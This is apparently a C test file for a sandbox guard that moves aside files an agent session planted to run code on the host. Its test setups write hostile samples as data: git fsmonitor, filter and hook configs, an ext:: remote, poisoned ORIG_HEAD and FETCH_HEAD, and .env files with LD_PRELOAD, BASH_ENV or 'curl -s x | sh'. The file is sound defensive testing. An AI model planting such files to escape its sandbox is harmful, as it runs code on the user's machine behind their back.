		/* a filter's process in a repository made in the session */
		{NULL,
		 "git init -q fr && cd fr && echo x > f && printf 'f filter=x\\n' > .git/info/attributes && "
		 "git add f && git commit -q -m f && "
		 "printf '[filter \"x\"]\\n\\tprocess = " PLANT("filter-process") "\\n\\tclean = " PLANT("filter-clean")
		 "\\n' >> .git/config && echo SET",
		 "echo z > work/fr/f && git -C work/fr add f >/dev/null 2>&1; git -C work/fr status >/dev/null 2>&1; "
		 "true"},
		/* a .git FILE in a subdirectory pointing at a repository the
		 * session made (the shell prompt's git status there) */
		{NULL,
		 "git init -q .h && printf '[core]\n\tfsmonitor = " PLANT("dotgit-fsmonitor") "\n' >> .h/.git/config && "
		 "mkdir d && echo 'gitdir: ../.h/.git' > d/.git && echo SET",
		 "cd work/d && git status >/dev/null 2>&1; true"},
	};
	static const char *const keep[] = {"--keep-git-config", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		CU_ASSERT_FATAL(run_case(&c, cases[i].setup, NULL, NULL, cases[i].inside, cases[i].host) == 0);
		CU_ASSERT(test_has(c.out, "SET"));
		ROW(markers(&c)[0] == '\0', "case %zu: the host's git ran a program the session named (%s): %s", i,
		    markers(&c), test_nz(c.err));
		gcase_free(&c);
		/* the premise: kept (--keep-git-config), the host's git runs it */
		CU_ASSERT_FATAL(run_case(&c, cases[i].setup, NULL, keep, cases[i].inside, cases[i].host) == 0);
		ROW(markers(&c)[0] != '\0', "case %zu: kept, the host's git ran nothing (test premise): %s", i,
		    test_nz(c.err));
		gcase_free(&c);
	}
}

/*
 * Round 39 of the attack (family R, round 37's "Not done"): the
 * pseudo-refs at the top of the git directory were not read. ORIG_HEAD
 * set in the session to a commit holding .vscode/tasks.json (a
 * folder-open task) is written into the tree by the host's `git reset
 * --hard ORIG_HEAD`, the usual undo, and FETCH_HEAD's .envrc by `git
 * merge FETCH_HEAD`; nothing named them. Each is named now with what it
 * brings; a `git reset --soft HEAD` (ORIG_HEAD is HEAD) gets no line.
 */
static void test_pseudo_refs_bring_settings(void)
{
	static const char *const want[] = {"ORIG_HEAD, set in the session, brings settings files",
					   ".vscode/tasks.json (", "git reset --hard ORIG_HEAD",
					   "FETCH_HEAD, set in the session, brings settings files", ".envrc (",
					   "git merge FETCH_HEAD", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "git update-ref ORIG_HEAD $c && "
				 "printf '%s\\t\\tbranch '\"'main'\"' of https://example.invalid/r\\n' $d > .git/FETCH_HEAD && "
				 "echo SET",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want);
	gcase_free(&c);
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, "git reset -q --soft HEAD && echo SET", NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!test_has(c.err, "ORIG_HEAD, set in the session"), "ORIG_HEAD set to HEAD was said to bring settings: %s",
	    test_nz(c.err));
	gcase_free(&c);
	/* Review of round 39: `git merge FETCH_HEAD` merges every line not
	 * marked not-for-merge (an octopus): a first line naming HEAD, the
	 * commit holding .envrc on the second (and a not-for-merge line
	 * naming $c, which it does not merge: no line for it). The host's
	 * merge wrote .envrc; only the first line was read. */
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "{ printf '%s\\t\\tbranch main of https://example.invalid/r\\n' "
				 "$(git rev-parse HEAD) && printf '%s\\tnot-for-merge\\tbranch y of "
				 "https://example.invalid/r\\n' $c && printf '%s\\t\\tbranch x of "
				 "https://example.invalid/r\\n' $d; } > .git/FETCH_HEAD && echo SET",
				 "cd work && git merge -q --no-edit FETCH_HEAD >/dev/null 2>&1; "
				 "test -e .envrc && echo MERGED-ENVRC; true") == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(test_has(c.err, "FETCH_HEAD line 3, set in the session, brings settings files") &&
		    test_has(c.err, ".envrc (") && test_has(c.err, "git merge FETCH_HEAD"),
	    "FETCH_HEAD's second line to merge, bringing .envrc, was not named: %s", test_nz(c.err));
	ROW(!test_has(c.err, ".vscode/tasks.json ("), "a not-for-merge line was named: %s", test_nz(c.err));
	ROW(test_has(c.host, "MERGED-ENVRC"), "the host's git merge FETCH_HEAD did not write .envrc (test premise): %s",
	    test_nz(c.host));
	gcase_free(&c);
	/* Review of round 39: ORIG_HEAD a symbolic ref (git follows it) to
	 * a branch named like a quarantine copy, which the refs walk skips:
	 * no line, and the host's `git reset --hard ORIG_HEAD` wrote
	 * .vscode/tasks.json. */
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "git update-ref refs/heads/x.passavant-quarantine $c && "
				 "echo 'ref: refs/heads/x.passavant-quarantine' > .git/ORIG_HEAD && echo SET",
				 "cd work && git reset -q --hard ORIG_HEAD >/dev/null 2>&1; "
				 "test -e .vscode/tasks.json && echo RESET-TASKS; true") == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(test_has(c.err, "ORIG_HEAD, set in the session, brings settings files") &&
		    test_has(c.err, ".vscode/tasks.json ("),
	    "ORIG_HEAD as a symbolic ref to a skipped branch bringing tasks.json was not named: %s", test_nz(c.err));
	ROW(test_has(c.host, "RESET-TASKS"), "the host's git reset --hard ORIG_HEAD did not write tasks.json (test "
	    "premise): %s", test_nz(c.host));
	gcase_free(&c);
}

/*
 * Review of round 37 (review37a): the check's own git runs on refs the
 * session set (what a branch or stash brings, G1; the notes a notes ref
 * gained) read the repository's config. One that names a promisor remote
 * (remote.NAME.promisor, as a partial clone has) made git fetch a tree
 * missing from the ref's commit, and a protocol.ext.allow=always there
 * overrode the run's `-c protocol.allow=never`: the ext:: remote ran its
 * command on the host, during the check, before any line. The config
 * reaches that git when kept (--keep-git-config) and through an include
 * of the user's config into the tree (the include is checked after the
 * refs). Both the branch's and the notes' runs now have
 * GIT_ALLOW_PROTOCOL empty (every transport refused, the config cannot
 * allow one) and GIT_NO_LAZY_FETCH=1. A branch bringing a settings file
 * is still named.
 */
#define R37A_PROMISOR                                                                                                  \
	"git config remote.o.promisor true && git config remote.o.url \"ext::sh -c touch% $M/ran-$1\" && "            \
	"git config protocol.ext.allow always && "                                                                     \
	"t=$(printf '040000 tree 1111111111111111111111111111111111111111\\tsub\\n' | git mktree --missing) && "      \
	"c=$(echo x | git commit-tree $t) && "
static void test_check_git_fetches_nothing(void)
{
	static const char *const keep[] = {"--keep-git-config", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	/* a branch, the config kept */
	CU_ASSERT_FATAL(run_case(&c, "git init -q work/n && git -C work/n commit -q --allow-empty -m i", NULL, keep,
				 "cd n && set -- branch; " R37A_PROMISOR "git update-ref refs/heads/feature $c && echo SET", NULL) == 0);
	if (!test_has(c.out, "SET"))
		show(&c);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!exists(&c, "m/ran-branch"), "the check's git fetched through the session's ext:: remote (a branch): %s",
	    test_nz(c.err));
	gcase_free(&c);
	/* a notes ref, the config kept */
	CU_ASSERT_FATAL(run_case(&c, "git init -q work/n && git -C work/n commit -q --allow-empty -m i", NULL, keep,
				 "cd n && set -- notes; " R37A_PROMISOR "git update-ref refs/notes/commits $c && echo SET", NULL) == 0);
	if (!test_has(c.out, "SET"))
		show(&c);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!exists(&c, "m/ran-notes"), "the check's git fetched through the session's ext:: remote (notes): %s",
	    test_nz(c.err));
	gcase_free(&c);
	/* the user's config includes a file of the tree; no --keep-git-config */
	CU_ASSERT_FATAL(run_case(&c, "git -C work config include.path ../shared.gitconfig && touch work/shared.gitconfig",
				 NULL, NULL,
				 "set -- include; export GIT_CONFIG=shared.gitconfig; " R37A_PROMISOR
				 "unset GIT_CONFIG; git update-ref refs/heads/feature $c && echo SET",
				 NULL) == 0);
	if (!test_has(c.out, "SET"))
		show(&c);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!exists(&c, "m/ran-include"), "the check's git fetched through an ext:: remote of an included file: %s",
	    test_nz(c.err));
	gcase_free(&c);
}

/* Round 36 of the attack (f1): a .env the session wrote is loaded by
 * the agents the user starts there next (Gemini CLI and Qwen Code when
 * there is no .gemini/.env, aider with its AIDER_* options, mise with
 * MISE_ENV_FILE; .env.local and .env.production by a Bun-built tool):
 * one that sets a variable steering them (BASH_ENV, AIDER_LINT_CMD,
 * LD_PRELOAD, also written "export NAME=", "NAME = ", 'NAME'=, "NAME:"
 * as Gemini's dotenv reads it, after a lone CR or a no-break space, as
 * python-dotenv reads them) or a link made at that name is
 * moved aside, at the top and nested; an application's .env (a database
 * address, an API key) stays, and so does one the session did not
 * write. Failed on 637203f (nothing named, every file stayed). */
static void test_round36_dotenv(void)
{
	static const char *const want[] = {"/work/.env: an env file agents load", "setting BASH_ENV",
					   "/work/a/.env: an env file agents load", "setting AIDER_LINT_CMD",
					   "/work/b/.env.local: an env file agents load", "setting LD_PRELOAD",
					   "/work/c/.env: a link made in the session", "/work/f/.env: ",
					   "setting NODE_OPTIONS", "/work/g/.env: ", "setting SHELLOPTS",
					   "/work/h/.env.production: ", "setting PS4", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "mkdir -p work/e && echo PATH=/opt/x > work/e/.env", NULL, NULL,
				 "mkdir -p a b c d && printf 'BASH_ENV=/x/hook.sh\n' > .env && "
				 "printf 'X=1\n  export  AIDER_LINT_CMD=\"sh -c x\"\n' > a/.env && "
				 "printf 'X=1\nLD_PRELOAD = /x.so\n' > b/.env.local && ln -s ../a/notes c/.env && "
				 "mkdir f && printf \"'NODE_OPTIONS'=--require=/x.js\\n\" > f/.env && "
				 "mkdir g h && printf 'X=1\rSHELLOPTS=xtrace\n' > g/.env && "
				 "printf '\302\240PS4: x\n' > h/.env.production && "
				 "printf 'DATABASE_URL=postgres://db/app\nGEMINI_API_KEY=k\nPYTHONUNBUFFERED=1\n' > d/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.env.passavant-quarantine") && !exists(&c, "work/.env"));
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && exists(&c, "work/b/.env.local.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/d/.env") && !test_has(c.err, "/work/d/.env"));
	CU_ASSERT(exists(&c, "work/e/.env") && !test_has(c.err, "/work/e/.env"));
	gcase_free(&c);
}

/* Review of round 36 (review36c): a .env the dotenv package (Gemini
 * CLI's) reads a line of after U+2028 or U+2029, which its LINE regular
 * expression (the m flag) takes as line ends ("# note<U+2028>NODE_OPTIONS="),
 * or a name whose '=' is on a later line (its \s* spans line ends), a
 * name after 0x1f (python-dotenv's \s, aider's reader), a .env in a
 * directory made to look like a git directory (HEAD, objects/, refs/),
 * the .env.NODE_ENV.local a Bun-built tool loads, and variables that
 * make a build or a runtime run a program or load code (cargo's RUSTC,
 * make's CC, GOROOT, JAVA_HOME, Yarn's YARN_YARN_PATH, bundler's
 * BUNDLE_GEMFILE, PYTHONWARNINGS, KUBECONFIG's exec), where aider sends
 * a key (AZURE_API_BASE), the Google auth library's switch for an
 * external account's command, and a FIFO (the agent waits on it) are
 * moved aside too; an application's .env with U+2028 in a value and
 * names near those (RUST_LOG, CC_EMAIL, YARNING, a service account's
 * file, VITE_API_BASE_URL) stays. */
static void test_round36_dotenv_more(void)
{
	static const char *const want[] = {"/work/a/.env: ",	       "setting NODE_OPTIONS",
					   "/work/b/.env: ",	       "setting BASH_ENV",
					   "/work/c/.env.development.local: ", "setting LD_PRELOAD",
					   "/work/d/.env.test.local: ",  "/work/e/.env: ",
					   "setting RUSTC",	       "/work/f/.env: ",
					   "setting CC",		       "/work/g/.env: ",
					   "setting YARN_YARN_PATH",     "/work/h/.env: ",
					   "setting BUNDLE_GEMFILE",     "/work/i/.env: ",
					   "setting GOROOT",	       "/work/j/.env: ",
					   "setting PYTHONWARNINGS",     "/work/k/.env: ",
					   "setting KUBECONFIG",	       "/work/l/.env: ",
					   "setting JAVA_HOME",	       "/work/m/.env: a FIFO or socket",
					   "/work/n/.env: ",	       "setting AZURE_API_BASE",
					   "/work/o/.env: ",	       "setting GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES",
					   "/work/p/.env: an env file agents load (Gemini CLI, aider, mise) setting BASH_ENV",
					   "/work/q/.env: ",	       "setting AIDER_LINT_CMD",
					   "/work/r/.env: an env file agents load (Gemini CLI, aider, mise) setting PYTHONPATH",
					   "/work/s/.env: ", "setting NODE_TLS_REJECT_UNAUTHORIZED", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c d e f g h i j k l m n o p z && mkfifo m/.env && "
				 "printf 'X=1\nBASH_ENV\n\n  =/x/h.sh\n' > p/.env && mkdir q && "
				 "printf 'X=1\n\037AIDER_LINT_CMD=sh -c x\n' > q/.env && mkdir -p r/objects r/refs && "
				 "echo 'ref: refs/heads/main' > r/HEAD && printf 'PYTHONPATH=/x\n' > r/.env && mkdir s && "
				 "printf 'NODE_TLS_REJECT_UNAUTHORIZED=0\n' > s/.env && "
				 "printf 'AZURE_API_BASE=https://x.example\nAZURE_API_KEY=k\n' > n/.env && "
				 "printf 'GOOGLE_APPLICATION_CREDENTIALS=./ea.json\nGOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES=1\n' > o/.env && "
				 "printf '# note\342\200\250NODE_OPTIONS=--require=/x.js\n' > a/.env && "
				 "printf 'X=\047y\047\342\200\251BASH_ENV=/x/h.sh\n' > b/.env && "
				 "printf 'LD_PRELOAD=/x.so\n' > c/.env.development.local && "
				 "printf 'NODE_OPTIONS=--require=/x.js\n' > d/.env.test.local && "
				 "printf 'RUSTC=/x/rustc\n' > e/.env && printf 'CC=./cc.sh\n' > f/.env && "
				 "printf 'YARN_YARN_PATH=./x.cjs\n' > g/.env && printf 'BUNDLE_GEMFILE=x.rb\n' > h/.env && "
				 "printf 'GOROOT=/x/go\n' > i/.env && printf 'PYTHONWARNINGS=ignore::x.Y\n' > j/.env && "
				 "printf 'KUBECONFIG=./kc\n' > k/.env && printf 'JAVA_HOME=/x/jdk\n' > l/.env && "
				 "printf 'TITLE=a\342\200\250b\nRUST_LOG=debug\nCC_EMAIL=x@y\nYARNING=1\n"
				 "GOOGLE_APPLICATION_CREDENTIALS=./sa.json\nVITE_API_BASE_URL=/api\nUV_THREADPOOL_SIZE=16\n' > z/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
	CU_ASSERT(exists(&c, "work/d/.env.test.local.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
	gcase_free(&c);
}

/* Round 37 (fix37v): the rest of the build tools' variables that run
 * a program or load code (LD, AR, PKG_CONFIG, HOSTCC, CPPFLAGS with -B,
 * CGO_LDFLAGS, YACC), as CC and CFLAGS are: a .env setting one, which
 * mise or a dotenv loader hands the host's next build, is moved aside;
 * an application's names near them (LDAP_URL, ASSET_DIR, FCM_KEY,
 * LEXICON, AR_RATE) stay. Failed on 519ddcc (each stayed). */
static void test_round37_dotenv_build(void)
{
	static const char *const want[] = {"/work/a/.env: ", "setting LD", "/work/b/.env: ", "setting AR",
					   "/work/c/.env: ", "setting PKG_CONFIG", "/work/d/.env: ", "setting HOSTCC",
					   "/work/e/.env: ", "setting CPPFLAGS", "/work/f/.env: ", "setting CGO_LDFLAGS",
					   "/work/g/.env: ", "setting YACC", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c d e f g z && printf 'LD=./ld\n' > a/.env && printf 'AR=./ar\n' > b/.env && "
				 "printf 'PKG_CONFIG=./pc\n' > c/.env && printf 'HOSTCC=./cc\n' > d/.env && "
				 "printf 'CPPFLAGS=-B tools\n' > e/.env && printf 'CGO_LDFLAGS=-fuse-ld=./ld\n' > f/.env && "
				 "printf 'YACC=./y\n' > g/.env && "
				 "printf 'LDAP_URL=ldap://h\nASSET_DIR=./a\nFCM_KEY=x\nLEXICON=en\nAR_RATE=2\n' > z/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
	gcase_free(&c);
}

/* Review of round 37 (review37c): the names policy/codevars.c and the
 * plugin path variables read that gitguard's .env list did not
 * (MAKEFLAGS with --eval, SUDO_EDITOR, RSYNC_RSH, PS1, GTK_MODULES,
 * QT_PLUGIN_PATH, GST_PLUGIN_PATH, PKCS11_MODULE_PATH,
 * COR_PROFILER_PATH, RUSTC_WORKSPACE_WRAPPER): a .env setting one is
 * moved aside; an application's names near them (PSQL_URL, GTK_THEME,
 * QT_SCALE_FACTOR, MAKE_TARGET, RSYNC_TARGET) stay. Failed before
 * (each stayed). */
static void test_review37_dotenv_names(void)
{
	static const char *const want[] = {
		"/work/a/.env: ", "setting MAKEFLAGS", "/work/b/.env: ", "setting SUDO_EDITOR",
		"/work/c/.env: ", "setting RSYNC_RSH", "/work/d/.env: ", "setting PS1",
		"/work/e/.env: ", "setting GTK_MODULES", "/work/f/.env: ", "setting QT_PLUGIN_PATH",
		"/work/g/.env: ", "setting GST_PLUGIN_PATH", "/work/h/.env: ", "setting PKCS11_MODULE_PATH",
		"/work/i/.env: ", "setting COR_PROFILER_PATH", "/work/j/.env: ", "setting RUSTC_WORKSPACE_WRAPPER",
		"/work/k/.env: ", "setting VK_LAYER_PATH", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c d e f g h i j k z && printf 'MAKEFLAGS=--eval=x:\n' > a/.env && "
				 "printf 'SUDO_EDITOR=./e\n' > b/.env && printf 'RSYNC_RSH=./r\n' > c/.env && "
				 "printf 'PS1=$(./p)\n' > d/.env && printf 'GTK_MODULES=./g.so\n' > e/.env && "
				 "printf 'QT_PLUGIN_PATH=./q\n' > f/.env && printf 'GST_PLUGIN_PATH=./s\n' > g/.env && "
				 "printf 'PKCS11_MODULE_PATH=./k.so\n' > h/.env && "
				 "printf 'COR_PROFILER_PATH=./c.so\n' > i/.env && "
				 "printf 'RUSTC_WORKSPACE_WRAPPER=./w\n' > j/.env && "
				 "printf 'VK_LAYER_PATH=./v\n' > k/.env && "
				 "printf 'PSQL_URL=x\nGTK_THEME=Adwaita\nQT_SCALE_FACTOR=2\n' > z/.env && "
				 "printf 'MAKE_TARGET=all\nRSYNC_TARGET=h\n' >> z/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
	gcase_free(&c);
}

/* Round 38: gitguard's .env names are base/envnames.h's, the lists
 * `run` reads (they were a copy by hand): the names added since and the
 * families known by a pattern (cmake's CUDACXX, R's R_PROFILE, Julia's
 * depot, the cc crate's CC_<target>, TARGET_CFLAGS) are moved aside; an
 * application's CC_EMAIL, R_HOME_URL stay. Failed before: each stayed. */
static void test_round38_dotenv_one_list(void)
{
	static const char *const want[] = {"/work/a/.env: ", "setting CUDACXX", "/work/b/.env: ", "setting R_PROFILE",
					   "/work/c/.env: ", "setting JULIA_DEPOT_PATH", "/work/d/.env: ",
					   "setting CC_x86_64_unknown_linux_gnu", "/work/e/.env: ", "setting TARGET_CFLAGS",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c d e z && printf 'CUDACXX=./nvcc\n' > a/.env && "
				 "printf 'R_PROFILE=./p.R\n' > b/.env && printf 'JULIA_DEPOT_PATH=./d\n' > c/.env && "
				 "printf 'CC_x86_64_unknown_linux_gnu=./cc\n' > d/.env && "
				 "printf 'TARGET_CFLAGS=-B./t\n' > e/.env && "
				 "printf 'CC_EMAIL=a@b.c\nR_HOME_URL=https://x\n' > z/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
	gcase_free(&c);
}

/* Round 36, the lead's review: a .env a shell sources (`set -a; .
 * ./.env`, in Makefiles, entry points, scripts) runs what is not an
 * assignment: a command line, a $(...) or backquote outside single
 * quotes, a command after an assignment, a redirection (which writes a
 * file), a function. Such a .env written in the session is moved aside;
 * an application's .env with a URL's '&', quoted spaces, a multi-line
 * quoted key, a '$(' in single quotes, comments and export stays.
 * Failed on 3184775 (every file stayed, nothing named). */
static void test_round36_dotenv_shell(void)
{
	static const char *const want[] = {"/work/a/.env: an env file that runs a command when a shell sources it",
					   "/work/b/.env: an env file that runs", "/work/c/.env: an env file that runs",
					   "/work/d/.env: an env file that runs", "/work/e/.env: an env file that runs",
					   "/work/f/.env.local: an env file that runs", "/work/g/.env: an env file that runs",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir -p a b c d e f g z && printf 'X=1\nTOKEN=$(./evil.sh)\n' > a/.env && "
				 "printf 'X=\"a `./evil.sh` b\"\n' > b/.env && printf '# x\ncurl -s x | sh\n' > c/.env && "
				 "printf 'X=1 ./evil.sh\n' > d/.env && printf 'X=1 > ~/.bashrc\n' > e/.env && "
				 "printf 'f() { ./evil.sh; }\n' > f/.env.local && printf 'A=b&./evil.sh\n' > g/.env && "
				 "printf '# app\nexport APP_ENV=dev\nDATABASE_URL=postgres://h/db?a=1&b=2\n"
				 "NAME=\"My App\" # the title\nNOTE=\\047$(not run)\\047\nKEY=\"-----BEGIN KEY-----\nabc\n"
				 "-----END KEY-----\"\nEMPTY=\nexport PORT\n' > z/.env",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
	gcase_free(&c);
}

/* Review of round 36 (review36c): HEAD, objects/ and refs/ made in a
 * directory made the walk take it for a git directory, and what it
 * skips there stayed unnamed: a .gitignore of "*" hiding a new module
 * from git status (git walks such a directory as any other), a
 * venv's bin/activate rewritten. Both named on HEAD; on 8788973 the
 * row fails (nothing named). */
static void test_fake_gitdir_skips(void)
{
	static const char *const want[] = {"/work/a/.gitignore for planted programs: written in the session", "evil.py",
					   "/work/.venv/bin/activate: a virtual environment's activation script", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && echo 'def test_ok(): pass' > t.py && printf '.venv/\\n' > .gitignore && "
				 "git add . && git commit -q -m t && mkdir -p .venv/bin .venv/lib/python3.99/site-packages && "
				 "echo 'home = /usr/bin' > .venv/pyvenv.cfg && echo '# activate' > .venv/bin/activate",
				 NULL, NULL,
				 "mkdir -p a/objects a/refs .venv/objects .venv/refs && echo 'ref: refs/heads/main' > a/HEAD && "
				 "echo 'ref: refs/heads/main' > .venv/HEAD && printf '*\\n' > a/.gitignore && "
				 "echo 'import os' > a/evil.py && echo 'touch x' >> .venv/bin/activate",
				 NULL) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* Review of round 45 (a part the command chose fills a fixed buffer):
 * the names of what was written beside a new .gitignore were kept in
 * 1,024 bytes, the first five shown and ", ..." only past five; four
 * names of 255 bytes filled it, so the list ended cut with no ", ..."
 * and the fifth (the module it hides) was left out unsaid. */
static void test_hidden_names_cut(void)
{
	static const char *const want[] = {"/work/t/.gitignore for planted programs: written in the session",
					   ", ...; look there for what", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "mkdir t && cd t && printf '*\\n' > .gitignore && for i in 1 2 3 4; do "
				 ": > \"$(printf \"$i%.0s\" $(seq 255))\"; done && echo 'import os' > evil.py",
				 NULL) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* The writable tree is a subdirectory of a repository whose git
 * directory lies above it, read-only: that repository's own
 * core.hooksPath names a hooks directory inside the tree, rewritten in
 * the session. */
static void test_enclosing_repo(void)
{
	static const char *const want[] = {"/work/sub/hk/pre-commit: hook pre-commit", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/sub/hk && printf '#!/bin/sh\\ntrue\\n' > work/sub/hk/pre-commit && "
				 "chmod +x work/sub/hk/pre-commit && git -C work config core.hooksPath sub/hk",
				 "filesystem:\n  allowWrite: [\"%s/work/sub\"]\n", NULL,
				 HOOK("sub/hk/pre-commit", "enclosing"), GIT_USE("work")) == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/* Names that only contain the quarantine suffix are no copies the check
 * made: agents load x.passavant-quarantine.js (opencode's plugins),
 * .yaml (Continue), .kiro.hook (Kiro), .md (Claude's agents) by their
 * extension; a hooks directory's entry with the suffix in its middle is
 * checked like any other. A name of a copy's exact shape planted in the
 * session (pre-commit.passavant-quarantine.1) is checked too; the copy
 * the check makes of a planted hook is not moved again. */
static void test_quarantine_suffix_inside(void)
{
	static const char *const want[] = {
	    "quarantined ",
	    CTL_LINE("pkg/.opencode/plugin/x.passavant-quarantine.js") " (moved to ",
	    CTL_LINE("pkg/.continue/mcpServers/x.passavant-quarantine.yaml") " (moved to ",
	    CTL_LINE("pkg/.kiro/hooks/x.passavant-quarantine.kiro.hook") " (moved to ",
	    CTL_LINE("pkg/.claude/agents/x.passavant-quarantine.md") " (moved to ",
	    "/work/r/.git/hooks/post-checkout.passavant-quarantine.sh: hook ",
	    "/work/r/.git/hooks/pre-commit.passavant-quarantine.1: hook ",
	    "/work/r/.git/hooks/pre-commit: hook pre-commit",
	    NULL};
	static const char *const moved[] = {
	    "pkg/.opencode/plugin/x.passavant-quarantine.js", "pkg/.continue/mcpServers/x.passavant-quarantine.yaml",
	    "pkg/.kiro/hooks/x.passavant-quarantine.kiro.hook", "pkg/.claude/agents/x.passavant-quarantine.md",
	    "r/.git/hooks/post-checkout.passavant-quarantine.sh", "r/.git/hooks/pre-commit.passavant-quarantine.1",
	    "r/.git/hooks/pre-commit"};
	char q[PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "git init -q work/r && git -C work/r commit -q --allow-empty -m x", NULL, NULL,
				 "mkdir -p pkg/.opencode/plugin pkg/.continue/mcpServers pkg/.kiro/hooks "
				 "pkg/.claude/agents && echo x > pkg/.opencode/plugin/x.passavant-quarantine.js && "
				 "echo x > pkg/.continue/mcpServers/x.passavant-quarantine.yaml && "
				 "echo x > pkg/.kiro/hooks/x.passavant-quarantine.kiro.hook && "
				 "echo x > pkg/.claude/agents/x.passavant-quarantine.md && "
				 HOOK("r/.git/hooks/post-checkout.passavant-quarantine.sh", "mid") " && "
				 HOOK("r/.git/hooks/pre-commit.passavant-quarantine.1", "shaped") " && "
				 HOOK("r/.git/hooks/pre-commit", "hook") " && echo DONE",
				 GIT_USE("work/r")) == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	for (size_t i = 0; i < sizeof(moved) / sizeof(moved[0]); i++) {
		snprintf(q, sizeof(q), "work/%s", moved[i]);
		CU_ASSERT(!exists(&c, q));
		snprintf(q, sizeof(q), "work/%s.passavant-quarantine", moved[i]);
		CU_ASSERT(exists(&c, q));
	}
	/* the check's own copy stays as it made it */
	CU_ASSERT(!exists(&c, "work/r/.git/hooks/pre-commit.passavant-quarantine.passavant-quarantine"));
	gcase_free(&c);
}

/* Every quarantine name .passavant-quarantine, .2 ... .99 planted in
 * advance next to a planted config: it still moves aside (to a random
 * name). */
static void test_quarantine_names_taken(void)
{
	static const char *const want[] = {"quarantined ", "/work/n/.git/config: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "git init -q n && git -C n config core.fsmonitor \"touch \\\"\\$M/taken\\\";:\" && "
				 "touch n/.git/config.passavant-quarantine && i=2 && while [ $i -le 99 ]; do "
				 "touch n/.git/config.passavant-quarantine.$i; i=$((i+1)); done",
				 GIT_USE("work/n")) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/n/.git/config"));
	gcase_free(&c);
}

/*
 * Round 21 of the attack: a full disk (every directory's slack taken by
 * hard links) left no slot for the move aside; the planted config stayed,
 * the exit status was 0, and git on the host ran its core.fsmonitor. Any
 * failed move is that case: here the git directory is made immutable on
 * the host before the session (chattr +i; the command appends to the
 * config in place, which it allows). The config is left, mode 000 (what
 * needs no room), and the exit status is 1, not the command's 0.
 */
static void test_quarantine_fails_closed(void)
{
	static const char *const want[] = {"cannot quarantine ", "/work/n/.git/config: core.fsmonitor",
					   "made unreadable (mode 000) in place",
					   "1 planted file could not be moved aside", NULL};
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	if (geteuid() != 0) {
		TEST_SKIP("needs root to make a directory immutable (chattr +i)");
		return;
	}
